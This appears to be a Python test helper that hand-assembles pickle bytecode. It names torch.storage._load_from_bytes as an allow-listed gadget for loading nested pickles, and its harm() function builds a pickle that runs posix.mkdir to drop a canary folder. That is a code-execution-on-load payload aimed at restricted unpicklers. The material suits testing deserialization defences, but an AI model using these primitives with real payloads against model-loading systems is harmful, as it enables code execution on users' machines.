"""Puts pickles together from instructions, as no pickler would."""

import struct

LOAD = ("torch.storage", "_load_from_bytes")
"""The one function on the allow list that loads what it is given."""


def named(module: str, name: str) -> bytes:
    """A global."""
    return f"c{module}\n{name}\n".encode()


def text(value: str) -> bytes:
    raw = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(raw)) + raw


def data(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def array(value: bytes) -> bytes:
    """Bytes that may still be changed."""
    return b"\x96" + struct.pack("<Q", len(value)) + value


def row(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(function: tuple[str, str], *items: bytes) -> bytes:
    return named(*function) + row(*items) + b"R"


def new(kind: tuple[str, str], *items: bytes) -> bytes:
    return named(*kind) + row(*items) + b"\x81"


def table(**entries: bytes) -> bytes:
    return b"}(" + b"".join(text(key) + value for key, value in entries.items()) + b"u"


def state(value: bytes) -> bytes:
    """Give the uppermost object its state."""
    return value + b"b"


def put(place: int) -> bytes:
    return b"q" + bytes([place])


def get(place: int) -> bytes:
    return b"h" + bytes([place])


def pickled(*steps: bytes, protocol: int = 4) -> bytes:
    return bytes([0x80, protocol]) + b"".join(steps) + b"."


def harm(canary: str) -> bytes:
    """A pickle of letters alone that makes a folder: the canary."""
    return b"cposix\nmkdir\n(V" + canary.encode("raw_unicode_escape") + b"\ntR."
